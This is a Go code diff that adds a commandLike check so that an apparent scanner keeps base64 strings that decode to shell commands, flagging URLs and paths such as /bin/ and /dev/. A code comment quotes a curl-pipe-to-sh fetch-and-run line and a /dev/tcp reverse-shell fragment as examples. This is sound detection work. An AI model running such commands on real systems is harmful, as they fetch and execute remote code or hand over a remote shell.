@@ -480,7 +480,7 @@ func assigned(s string, i int) bool {
 // Random bytes are almost never all printable, so keys and hashes that
 // happen to be valid base64 stay undecoded.
 func readableOrToken(b []byte) bool {
-	if readable(b) {
+	if readable(b) || commandLike(b) {
 		return true
 	}
 	if len(b) < 8 {
@@ -498,6 +498,29 @@ func readableOrToken(b []byte) bool {
 		}
 	}
 	return letters*2 >= len(b) && marks > 0
+}
+
+// commandLike accepts printable ASCII that carries a URL or a system path:
+// an encoded shell command ("curl http://10.0.0.9:8080 | sh", "/bin/sh -i
+// >& /dev/tcp/…") has too few letters for readable. Random bytes are
+// printable ASCII with odds of about 0.37 a byte, and must hold one of
+// these markers besides.
+func commandLike(b []byte) bool {
+	if len(b) < 8 {
+		return false
+	}
+	for _, c := range b {
+		if (c < ' ' || c > '~') && c != '\t' && c != '\n' {
+			return false
+		}
+	}
+	s := string(b)
+	for _, m := range [...]string{"://", "/bin/", "/dev/", "/etc/", "/tmp/", "~/"} {
+		if strings.Contains(s, m) {
+			return true
+		}
+	}
+	return false
 }
 
 // encodedRuns returns up to limit maximal runs of base64 alphabet
